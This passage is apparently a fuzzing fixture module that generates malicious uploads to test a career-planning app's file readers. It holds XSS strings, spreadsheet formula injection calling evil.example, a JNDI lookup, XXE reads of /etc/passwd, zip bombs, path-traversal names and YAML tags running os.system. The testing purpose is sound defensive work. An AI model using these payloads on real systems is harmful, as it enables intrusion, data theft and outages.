"""What somebody who means harm might hand in: plans, shares, zips, tables, answers, resumes, odd files.

`hand_ins(seed, count)` gives them, the same for the same seed: first one of each kind in `KINDS`, then more
of them by chance. Nothing here is run by anything; each is a file that careerkit is asked to read.
"""

from __future__ import annotations

import io
import json
import os
import random
import re
import struct
import warnings
import zipfile
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from pathlib import Path
from typing import Any

from careerkit import workspace

MANY, LARGE, DEEP = 100_000, 10_000_000, 100_000
# What a text may hold that somebody's program might run, load, follow or be confused by.
PAYLOADS = (
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    '"><svg/onload=alert(1)><iframe src="//evil.example/x">',
    "<a href='javascript:alert(1)'>click</a> [x](javascript:alert(1)) ![x](http://evil.example/p.png)",
    "<style>@import 'http://evil.example/x.css';</style><link rel=stylesheet href=//evil.example/x>",
    "</script></title></textarea></style><body onload=alert(1)>",
    "<!--><math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "&lt;script&gt;alert(1)&lt;/script&gt; &#x3c;script&#x3e;",
    "$\\href{javascript:alert(1)}{x}$ $$\\input{/etc/passwd}$$ `x` ```html\n<script>1</script>\n```",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/"&A1,"x")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "＝1+1",
    ";=1+1,=1+1\n=1+1;",
    "\x1b[31mred\x1b]0;title\x07\x1b]8;;http://evil.example\x07link\x1b]8;;\x07\x1b[2J\x1bP1$r\x1b\\",
    "\x9b31m\x9d0;x\x9c\x85\x08\x08\x08\x7f\x00",
    "\u202egnp.exe\u202c \u2066x\u2069 \u200b\u200d\ufeff \u2028\u2029 \U000e0041\u00ad",
    "a\u0301" * 60 + "\u0e33" * 40 + "👨‍👩‍👧‍👦" * 10,
    "x\r\nBEGIN:VEVENT\r\nSUMMARY:y\r\nATTACH:http://evil.example/x\r\nEND:VEVENT",
    "../../../../etc/passwd",
    "C:\\Windows\\System32\\x\\..\\..",
    "file:///etc/passwd",
    "{{ 7*7 }} {% include '/etc/passwd' %} ${jndi:ldap://evil.example/x} %s%n%x",
    "<?xml version='1.0'?><!DOCTYPE x [<!ENTITY y SYSTEM 'file:///etc/passwd'>]><x>&y;</x>",
    "]]></w:t></w:r><w:instrText>DDEAUTO c:\\\\x</w:instrText>_x000D__x003D_1",
    "'; DROP TABLE plans; --",
    "\ud83d",
    "\ufffe\uffff",
    "NaN",
    "A" * 4000,
    "W" * 190 + " x",
)
NUMBERS = (
    "NaN", "Infinity", "-Infinity", "1e999", "-1e999", "1e-320", "-0.0", "1" * 5000, "-1", "9" * 30, "1e308",
    "true", "null", '"7"', "[]", "{}", "1.0000000000000000000000001", "0x10", "01",
)  # fmt: skip
ODD_NAMES = (
    "../../outside.json",
    "/tmp/outside.json",
    "C:\\outside.json",
    "..\\outside.json",
    "a/../../outside.json",
    "\x1b[31mred.json",
    "\u202enosj.json",
    "<img src=x onerror=alert(1)>.json",
    "=cmd.json",
    "-rf.json",
    "con.json",
    "x" * 200 + ".json",
    "new\nline.json",
    "a b & c;d$(e)`f`.json",
)
_PEOPLE = [*workspace.samples().values(), *sorted((workspace.examples() / "class").glob("*.json"))]


@dataclass(frozen=True)
class HandIn:
    """A file as it is handed in: the kind of harm, its name, and its content or what is made in its place."""

    kind: str
    name: str
    content: bytes = b""
    made: str = ""

    def put(self, folder: Path) -> Path:
        """The file in `folder`; a name that no file system takes becomes a plain one."""
        path = folder / re.sub(r"[/\x00]", "_", self.name)
        if self.made == "fifo":
            os.mkfifo(path)
        elif self.made == "folder":
            (path / "plan.json").mkdir(parents=True)
        elif self.made:
            path.symlink_to({"loop": path, "dangling": folder / "nowhere"}.get(self.made, Path(self.made)))
        else:
            path.write_bytes(self.content)
        return path


Make = Callable[[random.Random], HandIn]
KINDS: dict[str, Make] = {}


def _kind(make: Callable[[random.Random], tuple[str, bytes | str]]) -> None:
    """Enter a maker of a file, its name and content, under its own name."""
    kind = make.__name__.strip("_")

    def entered(chance: random.Random) -> HandIn:
        name, content = make(chance)
        held = content.encode("utf-8", "surrogatepass") if isinstance(content, str) else content
        return HandIn(kind, name, held)

    KINDS[kind] = entered


def hand_ins(seed: int, count: int = 500) -> Iterator[HandIn]:
    """So many hostile hand-ins, the same for the same seed; one of each kind comes first."""
    chance = random.Random(seed)
    for place in range(count):
        kinds = [*KINDS]
        kind = kinds[place] if place < len(kinds) else chance.choice(kinds)
        yield KINDS[kind](random.Random(chance.getrandbits(64)))


# plans


def _sample(chance: random.Random) -> dict[str, Any]:
    document: dict[str, Any] = json.loads(chance.choice(_PEOPLE).read_text(encoding="utf-8"))
    return document


_KEPT = {"id", "key", "schema_version", "edited_on", "occupation", "code", "currency", "country", "after"}


def _each_text(value: Any, replace: Callable[[str], str], name: str = "") -> Any:
    """The document with its own words replaced: not ids, choices and dates, so that it stays a plan."""
    if isinstance(value, dict):
        return {key: _each_text(held, replace, key) for key, held in value.items()}
    if isinstance(value, list):
        return [_each_text(held, replace, name) for held in value]
    is_words = isinstance(value, str) and name not in _KEPT and not name.endswith(("_id", "_ids", "_on"))
    return replace(value) if is_words and (" " in value or value[:1].isupper()) else value


@_kind
def plan_of_payloads(chance: random.Random) -> tuple[str, str]:
    """A sound plan whose every text is something harmful, short enough to be allowed."""
    fit = [each[:180] for each in PAYLOADS if "\ud83d" not in each[:1]]
    document = _each_text(_sample(chance), lambda text: chance.choice(fit) if text.strip() else text)
    return "plan.json", json.dumps(document, ensure_ascii=chance.random() < 0.5)


@_kind
def plan_of_one_payload(chance: random.Random) -> tuple[str, str]:
    """A sound plan with one kind of harm in each text after its own words."""
    payload = chance.choice(PAYLOADS)[:150]
    document = _each_text(_sample(chance), lambda text: f"{payload} {text}"[:190])
    return "plan.json", json.dumps(document)


@_kind
def plan_mutated(chance: random.Random) -> tuple[str, str]:
    """A plan in which some values are of another kind, or absurd."""
    text = json.dumps(_sample(chance))
    for _ in range(chance.randint(1, 6)):
        values = list(re.finditer(r'(?<=: )(?:"(?:[^"\\]|\\.)*"|-?[\d.]+|true|false|null)', text))
        at = chance.choice(values)
        new = chance.choice([*NUMBERS, *map(json.dumps, PAYLOADS), "[[]]", '{"a": {"b": []}}'])
        text = text[: at.start()] + new + text[at.end() :]
    return "plan.json", text


@_kind
def plan_bytes_flipped(chance: random.Random) -> tuple[str, bytes]:
    """A plan that a broken disk left."""
    held = bytearray(chance.choice(_PEOPLE).read_bytes())
    for _ in range(chance.randint(1, 40)):
        held[chance.randrange(len(held))] = chance.randrange(256)
    return "plan.json", bytes(held[: chance.choice([len(held), chance.randrange(len(held))])])


@_kind
def plan_encoded(chance: random.Random) -> tuple[str, bytes]:
    """A plan in another encoding, with marks of order, or wrapped in noughts."""
    text = json.dumps(_sample(chance), ensure_ascii=False)
    encoding = chance.choice(["utf-8-sig", "utf-16", "utf-16-le", "utf-32", "utf-7", "cp500"])
    held = text.encode(encoding, "replace")
    return "plan.json", chance.choice([held, b"\xef\xbb\xbf" * 3 + held, b"\0" * 1000 + held, held + b"\0"])


@_kind
def plan_of_a_long_text(chance: random.Random) -> tuple[str, str]:
    """Ten million signs in a value, a key, a date or an id."""
    long = chance.choice(["A", "<b>", "é", "\u202e", "a ", "\\u0000", "-1"])
    long = long * (LARGE // len(long.encode()) // (6 if long == "\\u0000" else 1))
    goal = chance.choice(
        [
            f'{{"id": "goal-1", "statement": "{long}"}}',
            f'{{"id": "goal-1", "statement": "x", "{long}": 1}}',
            f'{{"id": "{long}", "statement": "x"}}',
            f'{{"id": "goal-1", "statement": "x", "due": "{long}"}}',
            f'{{"id": "goal-1", "statement": "x", "parent_id": "{long}"}}',
            f'{{"id": "goal-1", "statement": "x", "status": "{long}"}}',
        ]
    )
    return "plan.json", f'{{"schema_version": 3, "goals": [{goal}]}}'


@_kind
def plan_of_many_records(chance: random.Random) -> tuple[str, str]:
    """A hundred thousand records, or as many as are allowed and all that can be wrong with them."""
    many = chance.choice([MANY, 19_999])
    record = chance.choice(
        [
            '{"id": "goal-%d", "statement": "x"}',
            '{"id": "goal-1", "statement": "x"}',
            '{"id": "goal-%d", "statement": 1}',
            '{"id": "goal-%d", "statement": "x", "nonsense": 1}',
            "[]",
            "%d",
            '{"id": "goal-%d", "statement": "x", "parent_id": "goal-nowhere"}',
            '{"id": "goal-%d", "statement": "x", "parent_id": "goal-1"}',
        ]
    )
    records = ",".join(record.replace("%d", str(n)) for n in range(many))
    return "plan.json", f'{{"schema_version": 3, "goals": [{records}]}}'


@_kind
def plan_of_chains(chance: random.Random) -> tuple[str, str]:
    """Goals above goals, steps after steps, rings, and one that all hang on."""
    n = chance.choice([2_000, 6_000])
    shape = chance.choice(["goals", "steps", "ring", "fan", "ladder"])
    if shape in ("goals", "ring"):
        last = f', "parent_id": "goal-{n}"' if shape == "ring" else ""
        records = [f'{{"id": "goal-1", "statement": "x"{last}}}'] + [
            f'{{"id": "goal-{k}", "statement": "x", "parent_id": "goal-{k - 1}"}}' for k in range(2, n + 1)
        ]
        return "plan.json", f'{{"schema_version": 3, "goals": [{",".join(records)}]}}'
    after: Callable[[int], list[str]] = {
        "steps": lambda k: [f"action-{k - 1}"] if k > 1 else [],
        "fan": lambda k: ["action-1"] if k > 1 else [],
        "ladder": lambda k: [f"action-{j}" for j in range(max(1, k - 30), k)],
    }[shape]
    steps = [
        {"id": f"action-{k}", "what": "x", "after": after(k), "effort": {"likely": 1}}
        for k in range(1, n // 4)
    ]
    return "plan.json", json.dumps(
        {"schema_version": 3, "actions": steps, "capacity": {"hours_per_week": 0.01}}
    )


@_kind
def plan_of_many_keys(chance: random.Random) -> tuple[str, str]:
    """Objects with a hundred thousand keys: unknown ones, nearly known ones, one twice."""
    name = chance.choice(["k%d", "statment%d", "due_%d", "x" * 60 + "%d"])
    keys = ",".join(f'"{name.replace("%d", str(n))}": 1' for n in range(MANY))
    twice = ', "again": 1, "again": 2' if chance.random() < 0.3 else ""
    return "plan.json", chance.choice(
        [
            f'{{"schema_version": 3, {keys}{twice}}}',
            f'{{"schema_version": 3, "goals": [{{"id": "goal-1", "statement": "x", {keys}{twice}}}]}}',
            f'{{"schema_version": 3, "person": {{{keys}{twice}}}}}',
            f'{{"schema_version": 3, "riasec": {{"answers": {{{keys}}}}}}}',
        ]
    )


@_kind
def plan_nested(chance: random.Random) -> tuple[str, str]:
    """Lists and objects within each other, closed or not."""
    deep = chance.choice([200, 900, 5_000, DEEP])
    opening, closing = chance.choice([("[", "]"), ('{"a":', "}"), ('[{"goals":', "}]")])
    body = opening * deep + ("1" + closing * deep if chance.random() < 0.7 else "")
    return "plan.json", chance.choice([body, f'{{"schema_version": 3, "goals": {body}}}'])


@_kind
def plan_with_a_history(chance: random.Random) -> tuple[str, str]:
    """A download whose earlier states are many, large, broken, or named like places."""
    document = _sample(chance)
    states = [{"schema_version": 3}, {"schema_version": 9}, [], "x" * 1000, document]
    names = [*ODD_NAMES, "2026-10-31", "2026-02-30", *(f"1{n:03d}-01-01" for n in range(300))]
    document["history"] = {name: chance.choice(states[:4]) for name in names}
    document["edited_on"] = chance.choice(["0001-01-01", "9999-12-31", "x" * 1000, 7, None])
    return "plan.json", json.dumps(document)


@_kind
def plan_of_other_versions(chance: random.Random) -> tuple[str, str]:
    """A version that there is not, or an old one whose lists are none."""
    version = chance.choice([*NUMBERS, "1", "2", "4", '"3"', "1e400", "9" * 4000])
    materials = chance.choice(["[]", "{}", "7", '[{"kind": "organisation"}, [], 7]', '"x"'])
    return "plan.json", f'{{"schema_version": {version}, "materials": {materials}, "goals": {materials}}}'


@_kind
def plan_of_extremes(chance: random.Random) -> tuple[str, str]:
    """Figures and dates at the edge of what a plan allows."""
    day = chance.choice(["0001-01-01", "9999-12-31", "1950-01-01", "2100-12-31", "2024-02-29"])
    figure = chance.choice([1e-300, 1e-9, 168, 1e6, 1e12, 0.1, 0])
    step = {
        "id": "action-1",
        "what": "x",
        "effort": {"low": 0, "likely": figure, "high": 1e6},
        "due": day,
        "goal_id": "goal-1",
        "not_before": chance.choice([day, "2026-01-01"]),
        "repeats": chance.choice(["none", "week", "month"]),
    }
    goal = {"id": "goal-1", "statement": "x", "due": day, "measure": {"what": "x", "target": figure}}
    capacity = {"hours_per_week": chance.choice([figure, 1e-300, 168])}
    document = {"schema_version": 3, "goals": [goal], "actions": [step], "capacity": capacity}
    return "plan.json", json.dumps(document)


# shares


def _share(**changed: Any) -> str:
    chapters = ("start", "discover", "directions", "goals", "gaps", "actions", "people", "review")
    row: dict[str, Any] = {
        "as_of": "2026-11-21",
        "chapters": {name: {"points": 4, "done": 2, "state": "begun"} for name in chapters},
        "counts": {"goals": 2, "competencies": 3, "actions": 4, "reviews": 1},
        "goals": {"active": 2, "measured": 1, "dated": 1, "complete": 1},
        "steps": {"open": 3, "estimated": 2, "dated": 1},
        "gaps": ["public speaking"],
        "hours": {"a_week": 3.0, "needed": 12.0, "fits": True},
    }
    return json.dumps(row | changed)


@_kind
def share_absurd(chance: random.Random) -> tuple[str, str]:
    """A share with numbers, chapters and gaps that nobody has."""
    figures = [-1, 10**30, 1e308, 0.5, True, None, "7", [], {}, "<script>"]
    text = _share(
        **chance.choice(
            [
                {"goals": {name: chance.choice(figures) for name in ("active", "measured", "dated")}},
                {"steps": {"open": 0, "estimated": 10**9, "dated": -5}},
                {
                    "chapters": {
                        payload: {"points": 1, "done": 9, "state": payload} for payload in PAYLOADS[:9]
                    }
                },
                {"gaps": [chance.choice(PAYLOADS) for _ in range(50)]},
                {"gaps": [f"gap {n}" for n in range(MANY)]},
                {"gaps": ["x" * LARGE]},
                {"as_of": chance.choice(["0001-01-01", "x" * 10_000, 7])},
                {"key": "../../x", "error": "<script>alert(1)</script>"},
                {"hours": {"a_week": 1e308, "needed": -1e308, "fits": "yes"}},
                {"counts": {f"k{n}": n for n in range(MANY)}},
                {"nonsense": {"a": 1}},
            ]
        )
    )
    return "share.json", text


@_kind
def share_with_odd_numbers(chance: random.Random) -> tuple[str, str]:
    """A share in which one number is written in a way that JSON has not, or that no number has."""
    text = _share()
    at = chance.choice(list(re.finditer(r"(?<=: )[\d.]+", text)))
    return "share.json", text[: at.start()] + chance.choice(NUMBERS) + text[at.end() :]


# zips


def _zip(entries: list[tuple[str, bytes]]) -> bytes:
    out = io.BytesIO()
    with warnings.catch_warnings(action="ignore"), zipfile.ZipFile(out, "w") as packed:  # of names twice
        for name, held in entries:
            entry = zipfile.ZipInfo(name)
            entry.compress_type = zipfile.ZIP_DEFLATED
            packed.writestr(entry, held)
    return out.getvalue()


_SMALL = b'{"schema_version": 3}'


@_kind
def zip_bomb(chance: random.Random) -> tuple[str, bytes]:
    """Much in little: one large file, many, or zips within zips."""
    large = b"0" * 60_000_000
    shape = chance.choice(["flat", "many", "nested"])
    if shape == "flat":
        return "class.zip", _zip([("anna.json", large), ("Positions.csv", large)])
    if shape == "many":
        return "class.zip", _zip([(f"{n}.json", b" " * 2_000_000) for n in range(60)])
    held = _zip([("plan.json", large)])
    for _ in range(20):
        held = _zip([("inner.zip", held), ("again.zip", held)])
    return "class.zip", held


@_kind
def zip_lying(chance: random.Random) -> tuple[str, bytes]:
    """A zip whose directory says that a large file is a small one, or that all are the same bytes."""
    held = bytearray(_zip([("plan.json", b" " * 30_000_000), ("Skills.csv", b"Name\n" * 9_000_000)]))
    for match in re.finditer(rb"PK\x01\x02", bytes(held)):
        struct.pack_into("<I", held, match.start() + 24, chance.choice([10, 0, 1_000, 0xFFFFFFFF]))
    return "class.zip", bytes(held)


@_kind
def zip_damaged(chance: random.Random) -> tuple[str, bytes]:
    """A zip that is cut off, has other bytes in it, or another thing before it."""
    plans = [(f"{n}.json", chance.choice(_PEOPLE).read_bytes()) for n in range(3)]
    held = bytearray(_zip([*plans, ("Skills.csv", b"Name\nPython\n")]))
    for _ in range(chance.randint(0, 30)):
        held[chance.randrange(len(held))] = chance.randrange(256)
    return "class.zip", chance.choice(
        [bytes(held), bytes(held[: chance.randrange(len(held))]), b"PK", b"PK\x05\x06"]
    )


@_kind
def zip_locked(chance: random.Random) -> tuple[str, bytes]:
    """A zip that asks for a password, or is packed in a way that nobody can unpack."""
    held = bytearray(_zip([("plan.json", _SMALL), ("Skills.csv", b"Name\nPython\n")]))
    locked = chance.random() < 0.5
    for start, flags, method in ((b"PK\x01\x02", 8, 10), (b"PK\x03\x04", 6, 8)):
        for match in re.finditer(re.escape(start), bytes(held)):
            place, value = (flags, 1) if locked else (method, 99)
            struct.pack_into("<H", held, match.start() + place, value)
    return "class.zip", bytes(held)


@_kind
def zip_of_odd_names(chance: random.Random) -> tuple[str, bytes]:
    """A zip whose names lead elsewhere, stand twice, are links, or are no names."""
    names = chance.sample(ODD_NAMES, 6)
    lists = [(name.replace(".json", ".csv"), b"Name\n=cmd\n") for name in names]
    held = _zip([*((name, _SMALL) for name in (*names, names[0])), *lists, ("folder.json/", b"")])
    out = io.BytesIO(held)
    with zipfile.ZipFile(out, "a") as packed:
        link = zipfile.ZipInfo("link.json")
        link.external_attr = 0o120777 << 16
        packed.writestr(link, "/etc/passwd")
    return "class.zip", out.getvalue()


@_kind
def zip_of_many(chance: random.Random) -> tuple[str, bytes]:
    """Tens of thousands of files, or names as long as they may be."""
    if chance.random() < 0.5:
        return "class.zip", _zip([(f"{n}.json", b"") for n in range(30_000)])
    return "class.zip", _zip([(f"{n}{'x' * 60_000}.json", _SMALL) for n in range(60)])


@_kind
def zip_of_linkedin(chance: random.Random) -> tuple[str, bytes]:
    """LinkedIn's export with harm in its cells, many rows and many columns."""
    cell = chance.choice(PAYLOADS).encode("utf-8", "replace").replace(b'"', b"'")
    wide = b",".join(b"c%d" % n for n in range(20_000))
    return "linkedin.zip", _zip(
        [
            (
                "Positions.csv",
                b"Company Name,Title,Started On\n" + b'"%b","%b",Jan 2020\n' % (cell, cell) * 300,
            ),
            ("Profile.csv", b'First Name,Last Name,Headline\n"%b","%b","%b"\n' % (cell, cell, cell)),
            ("Skills.csv", b"Name\n" + b"".join(b'"s%d %b"\n' % (n, cell) for n in range(20_000))),
            (f"../../{'x' * 100}.csv", wide + b"\n" + wide),
        ]
    )


# tables


@_kind
def table_of_text(chance: random.Random) -> tuple[str, str]:
    """A list with harm in its cells, no end of a quotation, noughts, long lines."""
    rows = [f'"{chance.choice(PAYLOADS)}",3,5' for _ in range(200)]
    text = "Competency,Current,Required\n" + "\n".join(rows)
    text = chance.choice(
        [
            text,
            text + '\n"',
            text.replace(",", "\0,"),
            text * 100,
            "," * 1_000_000,
            '"' * 999_999,
            "x\n" * 500_000,
        ]
    )
    return chance.choice(["list.csv", "list.txt", "list.tsv"]), text


@_kind
def table_of_one_line(chance: random.Random) -> tuple[str, bytes]:
    """A line of ten million signs, in several encodings."""
    sign = chance.choice(["A", "a,", "<b>", "- ", "é", "1 ", "\t", "((", "2020 - ", "@", "[x](", "&amp"])
    text = "Skills\n" + sign * (LARGE // len(sign.encode("utf-16-le")))
    return "list.txt", text.encode(chance.choice(["utf-8", "utf-16"]))


_OPEN = "http://schemas.openxmlformats.org"
_LINKS = f"{_OPEN}/officeDocument/2006/relationships"
_PARTS = "application/vnd.openxmlformats-"
_SHEET = f"<worksheet xmlns='{_OPEN}/spreadsheetml/2006/main'>%s</worksheet>"


def office(parts: dict[str, tuple[str, str]]) -> bytes:
    """An office file of parts by name, each its kind and its XML; the first is what it begins with."""
    kinds = "".join(
        f"<Override PartName='/{name}' ContentType='{_PARTS}officedocument.{kind}+xml'/>"
        for name, (kind, _) in parts.items()
        if kind
    )
    rels = f"<Default Extension='rels' ContentType='{_PARTS}package.relationships+xml'/>"
    first = f"<Relationship Id='r1' Type='{_LINKS}/officeDocument' Target='{next(iter(parts))}'/>"
    texts = {
        "[Content_Types].xml": f"<Types xmlns='{_OPEN}/package/2006/content-types'>{rels}{kinds}</Types>",
        "_rels/.rels": f"<Relationships xmlns='{_OPEN}/package/2006/relationships'>{first}</Relationships>",
        **{name: text for name, (_, text) in parts.items()},
    }
    return _zip([(name, text.encode()) for name, text in texts.items()])


def workbook(sheet: str, shared: str = "", extra: dict[str, tuple[str, str]] | None = None) -> bytes:
    """An xlsx file with that sheet."""
    main = f"{_OPEN}/spreadsheetml/2006/main"
    links = "".join(
        f"<Relationship Id='r{n}' Type='{_LINKS}/{kind}' Target='{target}'/>"
        for n, kind, target in (
            (1, "worksheet", "worksheets/sheet1.xml"),
            (2, "sharedStrings", "sharedStrings.xml"),
        )
    )
    sheets = "<sheets><sheet name='Competencies' sheetId='1' r:id='r1'/></sheets>"
    return office(
        {
            "xl/workbook.xml": (
                "spreadsheetml.sheet.main",
                f"<workbook xmlns='{main}' xmlns:r='{_LINKS}'>{sheets}</workbook>",
            ),
            "xl/_rels/workbook.xml.rels": (
                "",
                f"<Relationships xmlns='{_OPEN}/package/2006/relationships'>{links}</Relationships>",
            ),
            "xl/worksheets/sheet1.xml": (
                "spreadsheetml.worksheet",
                sheet if sheet.startswith("<") and "worksheet" in sheet else _SHEET % sheet,
            ),
            "xl/sharedStrings.xml": (
                "spreadsheetml.sharedStrings",
                shared or f"<sst xmlns='{main}'><si><t>x</t></si></sst>",
            ),
            **(extra or {}),
        }
    )


_TENFOLD = "".join(f"<!ENTITY a{n} '{f'&a{n - 1};' * 10}'>" for n in range(1, 12))
_LAUGHS = f"<!DOCTYPE x [<!ENTITY a0 'ha'>{_TENFOLD}]>"
_OUTSIDE = (
    "<!DOCTYPE x [<!ENTITY a11 SYSTEM 'file:///etc/passwd'><!ENTITY % b SYSTEM 'http://127.0.0.1:9/x'>%b;]>"
)


def _inline(text: str, at: str = "A1") -> str:
    return f"<c r='{at}' t='inlineStr'><is><t>{text}</t></is></c>"


@_kind
def workbook_hostile(chance: random.Random) -> tuple[str, bytes]:
    """A workbook that says that it is enormous, asks for files, or calls itself a formula."""
    head = f"<row r='1'>{_inline('Competency')}{_inline('Current', 'B1')}{_inline('Required', 'C1')}</row>"
    formula = "<row r='2'><c r='A2'><f>WEBSERVICE(\"http://127.0.0.1:9/x\")</f><v>1</v></c></row>"
    sheets = {
        "merged": f"<sheetData>{head}</sheetData><mergeCells><mergeCell ref='A1:XFD1048576'/></mergeCells>",
        "far": f"<sheetData>{head}<row r='1048576'>{_inline('x', 'XFD1048576')}</row></sheetData>",
        "beyond": f"<sheetData>{head}<row r='99999999999'>{_inline('x', 'ZZZZZ99999')}</row></sheetData>",
        "dimension": f"<dimension ref='A1:XFD1048576'/><sheetData>{head}</sheetData>",
        "columns": f"<cols><col min='1' max='16384' width='1e999'/></cols><sheetData>{head}</sheetData>",
        "formula": f"<sheetData>{head}{formula}</sheetData>",
        "rows": f"<sheetData>{head}{'<row/>' * 3_000_000}</sheetData>",
        "cells": f"<sheetData>{head}{'<row>' + _inline('x', '') * 50 + '</row>'}</sheetData>" * 2_000,
        "wide": f"<sheetData><row r='1'>{'<c><v>1</v></c>' * 900_000}</row></sheetData>",
        "many": "<sheetData>" + f"<row>{'<c><v>1</v></c>' * 90}</row>" * 30_000 + "</sheetData>",
        "dates": f"<sheetData>{head}<row r='2'><c r='A2' t='d'><v>9999-99-99</v></c>"
        "<c t='n'><v>1e999</v></c></row></sheetData>",
        "validation": f"<sheetData>{head}</sheetData><dataValidations><dataValidation "
        f"sqref='{'A1:XFD1048576 ' * 5000}'/></dataValidations>",
        "links": f"<sheetData>{head}</sheetData><hyperlinks><hyperlink "
        "ref='A1:XFD1048576' r:id='r9' xmlns:r='x'/></hyperlinks>",
        "deep": "<x>" * 100_000,
        "laughs": _LAUGHS + _SHEET % f"<sheetData><row>{_inline('&a11;')}</row></sheetData>",
        "outside": _OUTSIDE + _SHEET % f"<sheetData><row>{_inline('&a11;')}</row></sheetData>",
        "payload": "<sheetData>"
        + head
        + "".join(
            f"<row>{_inline(f'<![CDATA[{text}]]>', '')}</row>" for text in PAYLOADS if text.isprintable()
        )
        + "</sheetData>",
        "empty": "",
    }
    shape = chance.choice([*sheets])
    many = (
        "<sst xmlns='http://schemas.openxmlformats.org/spreadsheetml/2006/main'>"
        + "<si><t>x</t></si>" * 2_000_000
    )
    return f"{shape}.xlsx", workbook(sheets[shape], many + "</sst>" if shape == "empty" else "")


# answers in Word and as text


def word(body: str, before: str = "", extra: dict[str, tuple[str, str]] | None = None) -> bytes:
    """A docx file with that body."""
    main = f"{_OPEN}/wordprocessingml/2006/main"
    document = f"{before}<w:document xmlns:w='{main}'><w:body>{body}</w:body></w:document>"
    return office({"word/document.xml": ("wordprocessingml.document.main", document), **(extra or {})})


def _row(*cells: str, more: str = "") -> str:
    held = (f"<w:tc>{more}<w:p><w:r><w:t>{cell}</w:t></w:r></w:p></w:tc>" for cell in cells)
    return f"<w:tr>{''.join(held)}</w:tr>"


@_kind
def answer_in_word(chance: random.Random) -> tuple[str, bytes]:
    """A Word file whose table says that it is enormous, or asks for more than it holds."""
    rows = _row("Your name", "Ruth", "name") + _row("What more?", "<![CDATA[" + PAYLOADS[0] + "]]>", "q-1")
    bodies = {
        "span": _row("a", "b", "c", more="<w:tcPr><w:gridSpan w:val='1000000000'/></w:tcPr>"),
        "merge": _row("a", "b", "c", more="<w:tcPr><w:vMerge/></w:tcPr>") * 3_000,
        "deep": "<w:tbl><w:tr><w:tc>" * 30_000,
        "before": "<w:trPr><w:gridBefore w:val='1000000000'/></w:trPr>".join(["<w:tr>", "</w:tr>"]) + rows,
        "many": rows * 50_000,
        "sound": rows,
        "laughs": _row("&a11;", "&a11;", "name"),
        "outside": _row("&a11;", "&a11;", "name"),
    }
    shape = chance.choice([*bodies])
    before = {"laughs": _LAUGHS, "outside": _OUTSIDE}.get(shape, "")
    held = word(f"<w:tbl><w:tblPr/><w:tblGrid/>{bodies[shape]}</w:tbl>", before)
    return f"{shape}.docx", held if chance.random() < 0.9 else held[: chance.randrange(len(held))]


@_kind
def answer_as_text(chance: random.Random) -> tuple[str, str]:
    """The page's own answer with points that nobody asked, many, or of other kinds."""
    odd = [*PAYLOADS, 7, None, [], {"a": []}]
    point = lambda: {key: chance.choice(odd) for key in ("token", "about", "answer")}  # noqa: E731
    answer = {
        "format": "careerkit answer 1",
        "name": chance.choice(odd),
        "on": chance.choice(["9999-99-99", "2026-11-01", *odd]),
        "points": chance.choice([[point() for _ in range(5_000)], {"a": 1}, "x", [[]] * 100]),
    }
    return "answer.json", json.dumps(answer)


# resumes


@_kind
def resume_json(chance: random.Random) -> tuple[str, str]:
    """A JSON Resume with harm in its texts, wrong kinds, or thousands of jobs."""
    odd = [*PAYLOADS, 7, None, [], {"a": {"b": []}}, "2020-13-45", "x" * 100_000]
    keys = ("name", "position", "startDate", "endDate", "summary", "url")
    job = lambda: {key: chance.choice(odd) for key in keys}  # noqa: E731
    number = chance.choice([3, 30, 3_000])
    resume = {
        "basics": {key: chance.choice(odd) for key in ("name", "label", "email", "summary", "profiles")},
        "work": [job() if number < 100 else {"name": f"Job {n}", "position": "x"} for n in range(number)],
        "skills": [{"name": chance.choice(odd), "keywords": [chance.choice(odd)] * 20} for _ in range(20)],
        "education": chance.choice(odd),
        **{f"k{n}": {"a": [n]} for n in range(chance.choice([0, 2_000]))},
    }
    return "resume.json", json.dumps(resume)


@_kind
def resume_deep(chance: random.Random) -> tuple[str, str]:
    """Objects within objects, in JSON and YAML, as deep as they go or as wide."""
    deep = chance.choice([50, 400, 5_000, DEEP])
    return chance.choice(
        [
            ("resume.json", '{"basics": ' * deep + "{}" + "}" * deep),
            ("resume.json", '{"work": ' + "[" * deep + "]" * deep + "}"),
            ("resume.yaml", "cv: " + "{a: " * min(deep, 5_000) + "}" * min(deep, 5_000)),
            ("resume.yaml", "cv:\n" + "".join(f"{' ' * n}- \n" for n in range(min(deep, 1_000)))),
            ("resume.json", json.dumps({"work": [{"a" * n: 1 for n in range(1, 1_000)}]})),
        ]
    )


@_kind
def resume_yaml(chance: random.Random) -> tuple[str, str]:
    """YAML that makes objects, repeats itself without end, or is no YAML."""
    laughs = "a0: &a0 [ha]\n" + "".join(
        f"a{n}: &a{n} [{', '.join([f'*a{n - 1}'] * 10)}]\n" for n in range(1, 10)
    )
    merged = "m0: &m0 {a: 1}\n" + "".join(
        f"m{n}: &m{n} {{<<: [{', '.join([f'*m{n - 1}'] * 10)}], k{n}: 1}}\n" for n in range(1, 8)
    )
    return "resume.yaml", chance.choice(
        [
            "cv: !!python/object/apply:os.system ['touch outside']\n",
            "cv: !!python/name:os.system\n",
            laughs + "cv:\n  name: *a9\n  sections:\n    experience: *a9\n",
            merged + "cv: *m7\n",
            "cv: &x [*x]\n",
            "cv: &x {sections: {experience: [*x]}, a: *x}\n",
            "cv:\n  name: " + "9" * 10_000 + "\n",
            "cv:\n  name: 0x" + "f" * 100_000 + "\n  phone: 190:20:30" + ":59" * 20_000 + "\n",
            "? " * 20_000,
            "- " * 20_000,
            "'" + "x" * 1_000_000,
            "cv:\n" + "  name: x\n" * 100_000,
            "".join(f"&a{n} a{n}: 1\n" for n in range(100_000)),
            "%TAG ! tag:yaml.org,2002:python/\n---\n!object/apply:os.system [x]\n",
        ]
    )


@_kind
def resume_xml(chance: random.Random) -> tuple[str, str]:
    """Europass as XML that asks for files, repeats itself, or is deep."""
    outer = "<SkillsPassport><LearnerInfo><Identification><PersonName><FirstName>%s</FirstName>"
    outer += "</PersonName></Identification></LearnerInfo></SkillsPassport>"
    return "europass.xml", chance.choice(
        [
            _LAUGHS + outer % "&a11;",
            _OUTSIDE + outer % "&a11;",
            outer % f"<![CDATA[{PAYLOADS[1]}]]>",
            "<a>" * DEEP,
